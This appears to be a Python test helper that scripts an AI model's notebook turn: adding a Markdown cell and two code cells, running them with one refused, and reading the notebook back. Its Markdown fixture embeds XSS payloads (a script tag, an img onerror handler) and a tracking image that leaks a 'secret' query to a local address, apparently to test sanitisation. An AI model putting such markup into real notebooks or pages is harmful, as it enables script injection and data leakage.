"""The scripted turn the notebook-cell tests share: Claude adds a Markdown cell and two code cells, runs both
(the user allows one on the cell and refuses the other), then reads the notebook back."""

from __future__ import annotations

import json
import re
from typing import Any

from claude_magic.testing import LocalServer, Reply, text, tool_use

HOSTILE_MARKDOWN = ("# Sales plot\n\nMade by Claude. ![tracker](http://127.0.0.1:9/leak.png?secret=1)\n\n"
                    '<img src="http://127.0.0.1:9/x.png" onerror="window.__xss=1"><script>window.__xss=2</script>'
                    "\n\n[safe link](https://example.com)")
PLOT_CODE = ("runs.append('plot')\nimport matplotlib.pyplot as plt\nfig, ax = plt.subplots()\n"
             "ax.plot([1, 2, 3], [2, 4, 8])\nax.set_title('growth')\nprint('plotted', len(runs))")
REFUSED_CODE = "runs.append('refused')\nprint('this should not run now')"
ADDED = re.compile(r"Added (?:code|markdown) cell (\S+) ")


def results_of(body: dict[str, Any]) -> list[str]:
    """The texts of the tool results in the request's last message."""
    texts = []
    for block in body["messages"][-1]["content"]:
        if isinstance(block, dict) and block.get("type") == "tool_result":
            content = block.get("content")
            if isinstance(content, list):
                content = " ".join(part.get("text", "") for part in content if part.get("type") == "text")
            texts.append(str(content))
    return texts


def added_ids(body: dict[str, Any]) -> list[str]:
    return [match.group(1) for result in results_of(body) for match in [ADDED.search(result)] if match]


class Transcript:
    """What the scripted turn saw: the tool results, by step."""

    def __init__(self) -> None:
        self.steps: list[list[str]] = []


def queue_build_turn(server: LocalServer, transcript: Transcript) -> None:
    """Add three cells, run two of them (the test answers Run, then Skip), read the notebook, finish."""
    def run_both(body: dict[str, Any]) -> Reply:
        transcript.steps.append(results_of(body))
        _markdown, plot, refused = added_ids(body)
        return Reply(tool_use("run_cell", {"cell_id": plot}, id="toolu_run_plot"),
                     tool_use("run_cell", {"cell_id": refused}, id="toolu_run_refused"))

    def read_back(body: dict[str, Any]) -> Reply:
        transcript.steps.append(results_of(body))
        return Reply(tool_use("read_notebook", {}, id="toolu_read"))

    def finish(body: dict[str, Any]) -> Reply:
        transcript.steps.append(results_of(body))
        return Reply(text("The plot is in the notebook; the second cell was skipped."))

    server.queue(
        Reply(text("I'll build it in the notebook."),
              tool_use("add_cell", {"source": HOSTILE_MARKDOWN, "cell_type": "markdown"}, id="toolu_add_md"),
              tool_use("add_cell", {"source": PLOT_CODE}, id="toolu_add_plot"),
              tool_use("add_cell", {"source": REFUSED_CODE}, id="toolu_add_refused")),
        run_both, read_back, finish)


def dumps(value: Any) -> str:
    return json.dumps(value, indent=1)[:4000]
